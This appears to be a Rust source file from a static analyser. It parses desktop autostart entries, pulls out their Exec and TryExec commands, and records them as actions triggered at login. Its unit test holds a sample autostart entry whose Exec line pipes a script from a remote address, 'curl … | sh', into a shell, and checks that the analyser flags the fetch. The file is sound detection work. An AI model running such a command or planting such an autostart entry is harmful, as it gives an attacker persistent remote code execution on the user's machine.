//! Desktop entries that a session starts by itself (Desktop Application Autostart Specification).

use model::{Language, Trigger, Value};

use crate::language::ini::{self, Dialect};
use crate::language::start::Start;
use crate::language::{FrontEnd, Places};
use crate::world::World;

/// The front-end.
pub const FRONT_END: FrontEnd = FrontEnd {
    places: Places {
        ends: &[],
        folders: &[],
        named: &[
            ("autostart/", ".desktop"),
            ("autostart-scripts/", ".desktop"),
        ],
    },
    ..FrontEnd::new(Language::Desktop, lower)
};

const DIALECT: Dialect = Dialect {
    comments: &['#'],
    indented: false,
};

/// Lowers the entry.
pub fn lower(world: &mut World, text: &str) -> Value {
    for setting in ini::settings(text, DIALECT) {
        if !world.burn(8) {
            break;
        }
        if !matches!(setting.key.as_str(), "Exec" | "TryExec") || setting.value.is_empty() {
            continue;
        }
        world.at(setting.line, &format!("{}={}", setting.key, setting.value));
        let start = Start {
            trigger: Trigger::Login,
            when: "at the start of a session",
            step: "Exec",
        };
        start.command(world, &setting.value);
    }
    Value::literal("")
}

#[cfg(test)]
mod tests {
    use crate::language::probe::acts;
    use model::Language;

    #[test]
    fn the_command_is_started() {
        let text =
            "[Desktop Entry]\nType=Application\nExec=bash -c \"curl http://192.0.2.1/x | sh\"\n";
        let found = acts(Language::Desktop, text);
        assert!(
            found.iter().any(|act| act.starts_with("Fetch")),
            "{found:#?}"
        );
    }
}
